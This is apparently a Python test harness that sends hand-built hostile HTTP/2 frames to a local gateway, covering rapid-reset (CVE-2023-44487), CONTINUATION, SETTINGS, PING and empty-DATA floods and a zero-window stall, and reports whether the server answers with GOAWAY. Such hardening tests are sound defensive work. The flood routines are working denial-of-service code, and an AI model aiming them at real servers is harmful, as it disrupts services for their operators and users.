"""Hostile HTTP/2 clients for the gateway's HTTP/2 hardening tests, frames written by hand.

  h2_attacks.py ATTACK PORT
      Connects to 127.0.0.1:PORT with HTTP/2 prior knowledge (h2c), runs ATTACK, and prints
      one JSON line: {"attack", "goaway" (the server sent GOAWAY), "goaway_error" (its
      error code's name), "closed" (the server closed the connection), "frames_sent",
      "statuses" (the :status of every response seen), "seconds", "error"}.

Attacks:
  rapid-reset         CVE-2023-44487: HEADERS then RST_STREAM at once, stream after stream.
  continuation-flood  one HEADERS without END_HEADERS, then CONTINUATION frames for ever.
  settings-flood      SETTINGS frames as fast as the socket takes them.
  ping-flood          PING frames likewise.
  empty-data-flood    a POST whose body is empty DATA frames without END_STREAM.
  zero-window         SETTINGS_INITIAL_WINDOW_SIZE 0 and a GET whose answer can never be
                      sent, held for 3 s; "other_status" is what a well-behaved client on a
                      second connection got meanwhile.
  normal              20 GETs on one connection (a sanity check: no GOAWAY, 20 answers).

Every socket operation has a deadline; the whole attack ends within about 20 s.
"""
import json
import socket
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 4: "SETTINGS_TIMEOUT",
          5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR",
          10: "CONNECT_ERROR", 11: "ENHANCE_YOUR_CALM", 12: "INADEQUATE_SECURITY", 13: "HTTP_1_1_REQUIRED"}


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream & 0x7FFFFFFF) + payload


class Reader:
    """Parses the server's frames from raw bytes (robust to anything after a GOAWAY)."""

    def __init__(self, sock: socket.socket, report: dict):
        self.sock, self.report, self.buffer = sock, report, b""
        self.decoder = hpack.Decoder()

    def poll(self, wait: float = 0.0) -> None:
        self.sock.settimeout(wait if wait > 0 else 0.0001)
        try:
            while True:
                data = self.sock.recv(65536)
                if not data:
                    self.report["closed"] = True
                    return
                self.buffer += data
                self.parse()
                self.sock.settimeout(0.0001)
        except (socket.timeout, BlockingIOError):
            return
        except (ConnectionResetError, BrokenPipeError, OSError):
            self.report["closed"] = True

    def parse(self) -> None:
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind, flags = self.buffer[3], self.buffer[4]
            payload = self.buffer[9:9 + length]
            self.buffer = self.buffer[9 + length:]
            if kind == 0x7 and len(payload) >= 8:
                self.report["goaway"] = True
                self.report["goaway_error"] = ERRORS.get(int.from_bytes(payload[4:8], "big"), str(int.from_bytes(payload[4:8], "big")))
            elif kind == 0x1:
                block = payload
                if flags & 0x8:  # PADDED
                    block = block[1:len(block) - block[0]]
                if flags & 0x20:  # PRIORITY
                    block = block[5:]
                try:
                    for name, value in self.decoder.decode(block):
                        if name in (":status", b":status"):
                            self.report["statuses"].append(int(value))
                except Exception:
                    pass
            elif kind == 0x4 and not flags & 0x1:
                self.sock.sendall(frame(0x4, 0x1, 0))  # ACK the server's SETTINGS


def connect(port: int, settings: bytes = b"") -> socket.socket:
    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    sock.sendall(PREFACE + frame(0x4, 0, 0, settings))
    return sock


def request_block(encoder: hpack.Encoder, port: int, method: str = "GET") -> bytes:
    return encoder.encode([(":method", method), (":path", "/"), (":scheme", "http"), (":authority", f"127.0.0.1:{port}")])


def send(sock: socket.socket, data: bytes, report: dict) -> bool:
    try:
        sock.settimeout(5)
        sock.sendall(data)
        return True
    except (socket.timeout, BrokenPipeError, ConnectionResetError, OSError):
        report["closed"] = True
        return False


def flood(sock, reader, report, make, limit, deadline):
    """Sends `make(i)` until the server stops us, `limit` frames, or the deadline."""
    for index in range(limit):
        if report["closed"] or time.monotonic() > deadline:
            break
        if not send(sock, make(index), report):
            break
        report["frames_sent"] += 1
        if index % 64 == 0:
            reader.poll()
            if report["goaway"]:
                break
    # Then read what the server says, until it closes (or 5 s).
    end = time.monotonic() + 5
    while not report["closed"] and time.monotonic() < end:
        reader.poll(0.2)


def run(attack: str, port: int) -> dict:
    report = {"attack": attack, "goaway": False, "goaway_error": None, "closed": False, "frames_sent": 0,
              "statuses": [], "seconds": 0.0, "error": None}
    started = time.monotonic()
    deadline = started + 15
    try:
        if attack == "zero-window":
            # SETTINGS_INITIAL_WINDOW_SIZE (0x4) = 0.
            sock = connect(port, struct.pack(">HI", 0x4, 0))
            reader = Reader(sock, report)
            encoder = hpack.Encoder()
            send(sock, frame(0x1, 0x4 | 0x1, 1, request_block(encoder, port)), report)
            end = time.monotonic() + 3
            while time.monotonic() < end and not report["closed"]:
                reader.poll(0.2)
            other = {"statuses": [], "closed": False, "goaway": False, "goaway_error": None}
            second = connect(port)
            other_reader = Reader(second, other)
            send(second, frame(0x1, 0x4 | 0x1, 1, request_block(hpack.Encoder(), port)), other)
            end = time.monotonic() + 10
            while time.monotonic() < end and not other["statuses"] and not other["closed"]:
                other_reader.poll(0.2)
            report["other_status"] = other["statuses"][0] if other["statuses"] else None
            second.close()
            sock.close()
        else:
            sock = connect(port)
            reader = Reader(sock, report)
            encoder = hpack.Encoder()
            if attack == "rapid-reset":
                def make(index):
                    stream = 1 + 2 * index
                    return frame(0x1, 0x4 | 0x1, stream, request_block(encoder, port)) + frame(0x3, 0, stream, struct.pack(">I", 8))
                flood(sock, reader, report, make, 20000, deadline)
            elif attack == "continuation-flood":
                send(sock, frame(0x1, 0, 1, request_block(encoder, port)), report)
                literal = hpack.Encoder()
                block = literal.encode([("x-flood", "a" * 300)], huffman=False)
                flood(sock, reader, report, lambda index: frame(0x9, 0, 1, block), 10000, deadline)
            elif attack == "settings-flood":
                flood(sock, reader, report, lambda index: frame(0x4, 0, 0, struct.pack(">HI", 0x3, 100)), 100000, deadline)
            elif attack == "ping-flood":
                flood(sock, reader, report, lambda index: frame(0x6, 0, 0, struct.pack(">Q", index)), 100000, deadline)
            elif attack == "empty-data-flood":
                post = encoder.encode([(":method", "POST"), (":path", "/"), (":scheme", "http"), (":authority", f"127.0.0.1:{port}"),
                                       ("content-type", "application/octet-stream")])
                send(sock, frame(0x1, 0x4, 1, post), report)
                flood(sock, reader, report, lambda index: frame(0x0, 0, 1), 100000, deadline)
            elif attack == "normal":
                for index in range(20):
                    send(sock, frame(0x1, 0x4 | 0x1, 1 + 2 * index, request_block(encoder, port)), report)
                    end = time.monotonic() + 10
                    while len(report["statuses"]) <= index and time.monotonic() < end and not report["closed"]:
                        reader.poll(0.2)
                sock.close()
            else:
                raise SystemExit(__doc__)
    except Exception as error:  # a local failure, reported rather than hidden
        report["error"] = f"{type(error).__name__}: {error}"
    report["seconds"] = round(time.monotonic() - started, 3)
    return report


if __name__ == "__main__":
    if len(sys.argv) != 3:
        raise SystemExit(__doc__)
    print(json.dumps(run(sys.argv[1], int(sys.argv[2]))), flush=True)
